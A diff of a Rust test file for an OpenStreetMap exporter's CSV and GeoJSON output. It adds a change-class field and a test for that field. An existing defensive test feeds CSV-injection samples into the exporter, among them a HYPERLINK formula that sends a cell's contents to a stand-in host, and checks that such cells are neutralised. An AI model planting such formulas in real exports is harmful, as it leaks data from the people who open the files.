@@ -132,7 +132,7 @@ fn past_the_budget_locations_are_dropped_and_the_second_read_names_the_blobs() {
 
 #[test]
 fn csv_quotes_what_needs_quoting() {
-    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: vec![("name".into(), "a, \"b\"\nc".into())], members: vec![], problem: None, meta: None, distance: None, cut: None };
+    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: vec![("name".into(), "a, \"b\"\nc".into())], members: vec![], problem: None, meta: None, distance: None, change: None, cut: None };
     let keys = CsvColumns::new(vec!["amenity".to_string(), "name".to_string(), "x,y".to_string()]);
     assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,amenity,name,\"x,y\"\r\n");
     assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),,,\"a, \"\"b\"\"\nc\",\r\n");
@@ -146,12 +146,24 @@ fn csv_quotes_what_needs_quoting() {
     assert_eq!((&f["geometry"], &f["properties"]["problem"]), (&serde_json::Value::Null, &serde_json::json!(NO_MEMBER_IN_FILE)));
 }
 
+#[test]
+fn a_change_views_export_has_its_class_beside_the_own_fields_and_a_change_tag_is_kept_apart() {
+    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: vec![("change".into(), "x".into())], members: vec![], problem: None, meta: None, distance: None, change: Some(Change::Deleted), cut: None };
+    let keys = CsvColumns::new(vec!["change".to_string()]).with_change(true);
+    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,change,tag:change\r\n");
+    assert_eq!(csv_row(&m, None, &keys), "node,7,,,,,deleted,x\r\n");
+    let f: serde_json::Value = serde_json::from_str(&feature(&m, None)).unwrap();
+    assert_eq!((&f["properties"]["change"], &f["properties"]["tag:change"]), (&serde_json::json!("deleted"), &serde_json::json!("x")));
+    // Other answers have no change column.
+    assert_eq!(csv_header(&CsvColumns::new(vec![])), "osm_type,osm_id,lat,lon,geometry,problem\r\n");
+}
+
 /// Tag values are written by anyone (OWASP "CSV Injection", CWE-1236): a cell a spreadsheet
 /// would run as a formula gets a `'` in front and quotes; numbers stay numbers.
 #[test]
 fn csv_cells_never_read_as_formulas() {
     let tags = [("a", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")"), ("b", "+SUM(1,2)"), ("c", "@SUM(1,1)"), ("d", "-1"), ("e", "-3.5"), ("f", "-x"), ("g", "\tcmd"), ("h", "\u{FF1D}1+1"), ("i", "1e-3"), ("j", "+"), ("=k", "v")];
-    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None, cut: None };
+    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None, change: None, cut: None };
     let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
     assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,a,b,c,d,e,f,g,h,i,j,\"'=k\"\r\n");
     assert_eq!(
@@ -165,7 +177,7 @@ fn csv_cells_never_read_as_formulas() {
 #[test]
 fn tags_never_take_an_elements_own_fields() {
     let tags = [("osm_id", "1"), ("osm_type", "relation"), ("tag:osm_id", "2"), ("lat", "x"), ("name", "n"), ("tag:name", "t")];
-    let m = Match { element: ElementType::Way, id: 9, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None, cut: None };
+    let m = Match { element: ElementType::Way, id: 9, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None, change: None, cut: None };
     let feature: serde_json::Value = serde_json::from_str(&feature(&m, Some(&Shape::Point([15_000_000, 20_000_000])))).unwrap();
     let p = &feature["properties"];
     assert_eq!((&p["osm_id"], &p["osm_type"]), (&serde_json::json!(9), &serde_json::json!("way")));
